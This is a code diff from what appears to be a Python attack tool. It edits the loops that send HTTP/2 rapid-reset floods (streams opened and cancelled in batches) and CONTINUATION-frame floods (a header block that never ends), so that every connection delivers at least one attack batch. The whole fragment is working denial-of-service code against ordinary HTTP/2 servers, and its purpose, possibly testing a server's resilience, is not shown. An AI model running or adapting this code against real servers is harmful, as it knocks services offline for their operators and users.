@@ -323,22 +323,26 @@ def attack_once(args, deadline):
         if args.kind == "rapid-reset":
             conn = new_h2(True, 16 * 1024)
             sock.sendall(conn.data_to_send())
-            while time.time() < deadline:
+            while True:  # at least one batch, so every connection is an attack
                 for _ in range(50):
                     stream = conn.get_next_available_stream_id()
                     conn.send_headers(stream, [(":method", "CONNECT"), (":authority", args.authority)])
                     conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
                     sent += 1
                 sock.sendall(conn.data_to_send())
+                if time.time() >= deadline and sent >= 1000:
+                    break
         else:
             # HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
             sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + raw_frame(4, 0, 0, b""))
             sock.sendall(raw_frame(1, 0, 1, b"\x00\x01a\x01b"))
             sent += 1
             chunk = raw_frame(9, 0, 1, b"\x00\x01a\x01b" * 4) * 64
-            while time.time() < deadline:
+            while True:  # at least one batch, so every connection is an attack
                 sock.sendall(chunk)
                 sent += 64
+                if time.time() >= deadline:
+                    break
     except (ssl.SSLError, OSError, h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
         pass
     closed, _ = read_until_closed(sock, None, max(0.5, min(args.timeout, deadline - time.time() + 5)))
@@ -354,7 +358,8 @@ def cmd_attack(args):
     connections = closed = frames = 0
     longest = 0.0
     errors = []
-    while time.time() < deadline:
+    # No new connection in the last half second: it would end before it is an attack.
+    while time.time() < deadline - 0.5:
         sent, was_closed, seconds, error = attack_once(args, deadline)
         if error:
             errors.append(error)
